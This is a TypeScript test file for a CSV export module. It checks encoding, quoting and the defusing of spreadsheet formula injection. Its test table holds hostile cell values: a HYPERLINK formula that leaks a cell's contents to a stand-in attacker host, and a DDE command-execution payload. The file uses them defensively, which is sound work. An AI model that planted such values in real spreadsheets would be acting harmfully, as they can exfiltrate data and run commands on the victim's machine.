import { describe, expect, it } from 'vitest';
import { csvCell, toCsv } from './csv';

/** Parses RFC 4180 CSV back into rows, to check that what we write reads back as what we meant. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted && c === '"' && text[i + 1] === '"') {
      cell += '"';
      i++;
    } else if (quoted && c === '"') {
      quoted = false;
    } else if (quoted || (c !== '"' && c !== ',' && !(c === '\r' && text[i + 1] === '\n'))) {
      cell += c;
    } else if (c === '"') {
      quoted = true;
    } else if (c === ',') {
      row.push(cell);
      cell = '';
    } else {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    }
  }
  return rows;
}

describe('toCsv', () => {
  it('starts with a UTF-8 BOM and ends every line with CRLF', () => {
    const csv = toCsv([
      ['কোড', 'নাম'],
      ['HT1001', 'সুমাইয়া'],
    ]);
    expect(csv).toBe('\uFEFFকোড,নাম\r\nHT1001,সুমাইয়া\r\n');
    expect(Buffer.from(csv, 'utf8').subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
  });

  it('quotes commas, quotes and line breaks, and reads back the same', () => {
    const nasty = ['a,b', 'she said "hi"', 'line 1\nline 2', 'cr\rlf', '"', ',', ''];
    const csv = toCsv([nasty]);
    expect(csv).toBe('\uFEFF"a,b","she said ""hi""","line 1\nline 2","cr\rlf","""",",",\r\n');
    expect(parseCsv(csv.slice(1))).toEqual([nasty]);
  });

  it('writes null and undefined as empty cells and numbers as numbers', () => {
    expect(toCsv([[null, undefined, 0, 1200.5, -3, Number.NaN, Infinity]])).toBe('\uFEFF,,0,1200.5,-3,,\r\n');
  });

  it('writes an empty document as just the BOM', () => {
    expect(toCsv([])).toBe('\uFEFF');
  });
});

describe('formula injection', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?x="&A1,"click")', `"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`],
    ['=1+1', "'=1+1"],
    ['+8801700000004', "'+8801700000004"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\t=1+1', "'\t=1+1"],
    ['\tplain', "'\tplain"],
    ['\r=1', `"'\r=1"`],
    ['\n=1', `"'\n=1"`],
    ['   =cmd|" /C calc"!A0', `"'   =cmd|"" /C calc""!A0"`],
    ['\u00A0+1', "'\u00A0+1"],
    ['＝1+1', "'＝1+1"],
    ['＋880', "'＋880"],
  ])('defuses %j', (value, expected) => {
    expect(csvCell(value)).toBe(expected);
    expect(parseCsv(toCsv([[value]]).slice(1))).toEqual([[`'${value}`]]);
  });

  it.each(['HT7K2Q9', 'সুমাইয়া আক্তার', 'a=b', 'x+y', '01700-000004', 'email@example.com', ' leading space', '১২০০'])('leaves %j alone', (value) => {
    expect(csvCell(value)).toBe(value);
  });

  it('does not prefix numbers, negative ones included', () => {
    expect(csvCell(-50)).toBe('-50');
  });
});
